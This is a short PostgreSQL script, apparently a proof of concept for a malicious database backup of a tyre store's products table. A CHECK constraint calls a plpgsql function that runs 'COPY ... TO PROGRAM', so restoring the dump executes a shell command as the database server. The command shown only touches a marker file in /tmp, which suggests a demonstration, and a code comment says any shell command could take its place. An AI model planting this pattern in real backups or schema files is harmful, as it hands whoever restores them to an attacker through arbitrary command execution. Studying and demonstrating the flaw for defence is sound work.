create function public.sized(size text) returns boolean language plpgsql as $f$
begin
  -- What a crafted backup runs wherever it is restored: any shell command, as the server.
  execute format('copy (select 1) to program %L', 'touch /tmp/tyre-store-backup-ran-a-program');
  return true;
end
$f$;
create table public.products (id integer primary key, name text not null check (public.sized(name)));
insert into public.products values (1, 'Winter 205/55 R16');
